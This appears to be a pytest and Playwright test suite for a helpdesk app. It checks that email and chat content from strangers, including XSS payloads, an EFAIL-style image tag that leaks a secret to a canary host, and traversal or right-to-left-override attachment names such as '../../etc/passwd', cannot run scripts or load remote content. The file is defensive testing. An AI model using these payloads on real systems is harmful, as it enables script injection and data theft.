"""A01, A02: markup of attackers in every place where the page shows what strangers wrote."""

from __future__ import annotations

import html
import json
import re
from collections.abc import AsyncIterator, Callable
from email.header import Header
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from playwright.async_api import BrowserContext, Page, Route, expect

from connectors.email.html.safe import make_safe
from connectors.email.sandbox import EmailSandbox
from router.services.safe_html import remote_pictures, to_document
from tests.browser.attacks import CANARY, attacks
from tests.browser.desk import PlayedDesk, log, row
from tests.browser.states import Stillness
from tests.waiting import until

ATTACKS = attacks()
MAILED = ATTACKS[:150]
"""All are in every field in `test_hostile_fields.py`; these go the whole way by mail."""
FRAMES = "http://frames.example/"
PATIENCE_MS = 90_000
SETTLED_MS = 3_000
AT_ONCE = 10
"""Attacks in one text."""
EFAIL_SECRET = "SECRET-OF-ANOTHER-PART"
PROVOKE = """() => {
  let count = 0;
  for (const frame of document.querySelectorAll("iframe")) {
    for (const element of frame.contentDocument?.querySelectorAll("body *") ?? []) {
      count++;
      for (const type of ["mouseover", "pointerenter", "focus", "toggle", "error", "load", "begin"])
        element.dispatchEvent(new Event(type));
      if (element.href?.baseVal ?? /^(javascript|data|vbscript):/i.test(element.href ?? ""))
        element.click();
    }
  }
  return count;
}"""
READY = """(count) => {
  const frames = [...document.querySelectorAll("iframe")];
  return frames.length === count
    && frames.every((one) => one.contentDocument?.readyState === "complete");
}"""
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082"
)


@pytest.fixture
async def ran(browser_context: BrowserContext) -> list[str]:
    """What scripts of attacks said: each logs RUN and its number."""
    said: list[str] = []

    def watch(page: Page) -> None:
        page.on("console", lambda message: said.append(message.text))
        page.on("dialog", lambda dialog: said.append(f"RUN dialog {dialog.message}"))

    browser_context.on("page", watch)
    return said


@pytest.fixture
async def asked(browser_context: BrowserContext) -> list[str]:
    """The addresses of the canary's that the browser asked for."""
    addresses: list[str] = []

    async def answer(route: Route) -> None:
        addresses.append(route.request.url)
        await route.fulfill(body=PIXEL, content_type="image/png")

    await browser_context.route(re.compile(r"canary\.example"), answer)
    return addresses


@pytest.fixture
async def mailbox(tmp_path: Path, desk: PlayedDesk) -> AsyncIterator[EmailSandbox]:
    """A second mailbox of the desk, into which any bytes may be put."""
    sandbox = EmailSandbox()
    await sandbox.start(tmp_path / "mailbox")
    try:
        body = {"channel": "email", "label": "Raw", "config": sandbox.account_config()}
        await post(desk, "/accounts", body)
        yield sandbox
    finally:
        await sandbox.stop()


async def post(desk: PlayedDesk, path: str, body: dict[str, Any]) -> Any:
    token = (await desk.get("/me"))["csrf_token"]
    answer = await desk.context.request.post(
        f"{desk.url}/api/v1{path}",
        data=body,
        headers={"Origin": desk.url, "X-CSRF-Token": token},
    )
    assert answer.ok, await answer.text()
    return await answer.json()


def hostile_mail(number: int, shown_attacks: list[str]) -> bytes:
    """Each attack is in a name, in a subject, a text, an HTML part and a file's name."""
    boundary = "=_b"
    first = " ".join(" ".join(shown_attacks).split()).replace("\x00", "")
    name = Header(first, "utf-8").encode(linesep="\r\n")
    parts = [f"Content-Type: text/plain; charset=utf-8\r\n\r\n{first}"]
    for one in shown_attacks:
        file = quote(one, safe="")
        parts.append(f"Content-Type: text/html; charset=utf-8\r\n\r\n<p>before</p>{one}")
        parts.append(
            "Content-Type: application/octet-stream\r\n"
            f"Content-Disposition: attachment; filename*=utf-8''{file}\r\n\r\nx"
        )
    head = (
        f"From: {name} <eve{number}@evil.example>\r\nTo: help@desk.example\r\n"
        f"Subject: {name}\r\nMessage-ID: <m{number}@evil.example>\r\nMIME-Version: 1.0\r\n"
        f'Content-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n'
    )
    body = "".join(f"--{boundary}\r\n{part}\r\n" for part in parts)
    return (head + body + f"--{boundary}--\r\n").encode()


def frames(documents: list[str]) -> str:
    """A page of frames without any sandbox or policy, each with a document of its own."""
    inner = "".join(f'<iframe srcdoc="{html.escape(one)}"></iframe>' for one in documents)
    return f'<!doctype html><meta charset="utf-8"><link rel="icon" href="data:,">{inner}'


async def show(page: Page, context: BrowserContext, documents: list[str]) -> None:
    async def answer(route: Route) -> None:
        if route.request.url != FRAMES:
            await route.abort()
            return
        await route.fulfill(body=frames(documents), content_type="text/html; charset=utf-8")

    await context.route(f"{FRAMES}**", answer)
    await page.goto(FRAMES, wait_until="commit")
    # Some never finish loading, and some leave their frame: there is no event to wait for.
    await page.wait_for_timeout(SETTLED_MS)


async def provoke(page: Page) -> int:
    """Everything in the frames is pointed at, focused and clicked; how many elements there are."""
    return int(await page.evaluate(PROVOKE))


def runs(said: list[str]) -> set[str]:
    return {one for one in said if one.startswith("RUN")}


async def test_attacks_run_and_load_where_nothing_is_in_their_way(
    page_errors: list[str], browser_context: BrowserContext, ran: list[str], asked: list[str]
) -> None:
    page = await browser_context.new_page()

    await show(page, browser_context, ATTACKS)

    async def do_harm() -> bool:
        return len(runs(ran)) >= 45 and len(set(asked)) >= 30

    await until(do_harm, seconds=90)
    await page.close()
    page_errors.clear()
    assert len(ATTACKS) >= 300


def by_connector(attack: str) -> str:
    safe = make_safe(attack)
    assert safe is not None
    return safe


def by_router(attack: str) -> str:
    return to_document(attack, pictures={})


def by_both(attack: str) -> str:
    return to_document(by_connector(attack), pictures={}, remote=str)


@pytest.mark.parametrize("sanitise", [by_connector, by_router, by_both])
async def test_sanitised_attacks_do_nothing_even_without_policy_and_sandbox(
    page_errors: list[str],
    browser_context: BrowserContext,
    ran: list[str],
    asked: list[str],
    sanitise: Callable[[str], str],
) -> None:
    page = await browser_context.new_page()

    await show(page, browser_context, [sanitise(one) for one in ATTACKS])
    await page.wait_for_function(READY, arg=len(ATTACKS), timeout=PATIENCE_MS)
    elements = await provoke(page)

    await page.close()
    page_errors.clear()
    assert elements > 150
    assert runs(ran) == set()
    # What an agent asks to see are the pictures, and of these only the pictures.
    pictures = {address for address in asked if re.search(r"/[0-9]{1,2}\.png$", address)}
    assert set(asked) == pictures
    assert bool(pictures) is (sanitise is by_both)


async def test_nothing_that_strangers_write_runs_or_loads_in_the_inbox(
    page_errors: list[str],
    browser_context: BrowserContext,
    desk: PlayedDesk,
    mailbox: EmailSandbox,
    ran: list[str],
    asked: list[str],
) -> None:
    groups = [MAILED[at : at + AT_ONCE] for at in range(0, len(MAILED), AT_ONCE)]
    for number, group in enumerate(groups):
        await mailbox.put(hostile_mail(number, group))
    for group in groups:
        await desk.say("webchat", "\n".join(group).replace("\x00", ""), person=group[1])

    async def have_come() -> bool:
        return len(await desk.rows()) >= len(groups) + 1

    await until(have_come, seconds=90)
    people = [one["person_id"] for one in await desk.rows()]
    for person_id in people:
        note = {"kind": "note", "text": "\n".join(groups[0]).replace("\x00", "")}
        await post(
            desk, f"/conversations/{person_id}/messages", {**note, "client_key": f"n{person_id}"}
        )
    page = await browser_context.new_page()
    await desk.open(page)
    await expect(
        page.get_by_role("list", name="Conversations").get_by_role("listitem")
    ).not_to_have_count(0)
    still = Stillness(page)
    opened = 0
    for person_id in people:
        await desk.open(page, f"/inbox/open/{person_id}")
        await expect(log(page).get_by_role("article").first).to_be_visible(timeout=PATIENCE_MS)
        await still.reached()
        original = log(page).get_by_role("button", name="Show original")
        if await original.count():
            await original.first.click()
            await expect(log(page).locator("iframe")).to_be_visible()
            opened += 1
    await still.reached()

    assert opened == len(groups)
    assert runs(ran) == set()
    assert asked == []
    assert await page.evaluate("document.querySelectorAll('[onerror],[onload]').length") == 0
    await page.close()
    page_errors.clear()


async def test_remote_content_is_loaded_by_no_browser_not_even_after_a_click(
    page_errors: list[str],
    browser_context: BrowserContext,
    desk: PlayedDesk,
    mailbox: EmailSandbox,
    asked: list[str],
) -> None:
    raw = (
        "From: eve@evil.example\r\nTo: help@desk.example\r\nSubject: Encrypted\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n'
        "--b\r\nContent-Type: text/html\r\n\r\n"
        f'<p>Look</p><img src="{CANARY}/plain.png"><img src="{CANARY}/leak?\r\n'
        f"--b\r\nContent-Type: text/plain\r\n\r\n{EFAIL_SECRET}\r\n"
        f"--b\r\nContent-Type: text/html\r\n\r\n<b>{EFAIL_SECRET}</b>\r\n"
        '--b\r\nContent-Type: text/html\r\n\r\n"><p>end</p>\r\n--b--\r\n'
    )
    await mailbox.put(raw.encode())

    async def has_come() -> bool:
        return bool(await desk.rows())

    await until(has_come, seconds=90)
    page = await browser_context.new_page()
    await desk.open(page)
    await row(page, "Encrypted").or_(row(page, "Look")).first.click()
    await log(page).get_by_role("button", name="Show original").click()
    frame = log(page).frame_locator("iframe")
    await expect(frame.get_by_text(EFAIL_SECRET).first).to_be_visible()
    await expect(frame.get_by_text("end")).to_be_visible()
    assert asked == []

    button = log(page).get_by_role("button", name="Load remote images")
    await button.click()

    await expect(button).to_be_disabled()
    await expect(frame.get_by_text("end")).to_be_visible()
    await page.wait_for_timeout(500)
    assert asked == []
    page_errors.clear()


def test_what_the_desk_would_fetch_takes_no_other_part_along() -> None:
    parts = (
        f'<img src="{CANARY}/plain.png"><img src="{CANARY}/leak?\r\n',
        f"<b>{EFAIL_SECRET}</b>",
        '"><p>end</p>',
    )

    found = remote_pictures("".join(by_connector(part) for part in parts))

    assert f"{CANARY}/plain.png" in found
    assert not any(EFAIL_SECRET in address for address in found)


async def test_files_of_strangers_are_saved_and_never_shown_as_pages(
    desk: PlayedDesk, mailbox: EmailSandbox
) -> None:
    names = {
        "../../etc/passwd": "text/plain",
        "a\x00b.html": "text/html",
        "\u202egnp.exe": "image/png",
        "x.svg": "image/svg+xml",
        ".htaccess": "text/xml",
        "\u200bx.pdf": "application/pdf",
        "a" * 300 + ".txt": "text/plain",
        "x.xhtml": "application/xhtml+xml",
    }
    boundary = "b"
    body = "".join(
        f"--{boundary}\r\nContent-Type: {kind}\r\nContent-Disposition: attachment;"
        f" filename*=utf-8''{quote(name, safe='')}\r\n\r\n<svg onload=alert(1)>\r\n"
        for name, kind in names.items()
    )
    await mailbox.put(
        (
            "From: eve@evil.example\r\nTo: help@desk.example\r\nSubject: files\r\n"
            f'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n'
            f"--{boundary}\r\nContent-Type: text/plain\r\n\r\nfiles\r\n{body}--{boundary}--\r\n"
        ).encode()
    )

    async def files() -> list[dict[str, Any]]:
        rows = await desk.rows()
        if not rows:
            return []
        found = await desk.get(f"/conversations/{rows[0]['person_id']}/messages")
        return [one for message in found["messages"] for one in message["attachments"]]

    stored = await until(files, seconds=90)

    assert len(stored) == len(names)
    for one in stored:
        shown = json.dumps(one["name"])
        assert not re.search(r"[/\\\u0000\u200b\u202e]|^\.", one["name"]), shown
        assert 0 < len(one["name"].encode()) <= 255
        for inline in ("", "?inline=1"):
            answer = await desk.context.request.get(
                f"{desk.url}/api/v1/attachments/{one['id']}{inline}"
            )
            headers = answer.headers
            assert answer.status == 200
            assert headers["content-disposition"].startswith("attachment")
            assert headers["x-content-type-options"] == "nosniff"
            assert "sandbox" in headers["content-security-policy"]
            assert not re.search("html|svg|xml", headers["content-type"])
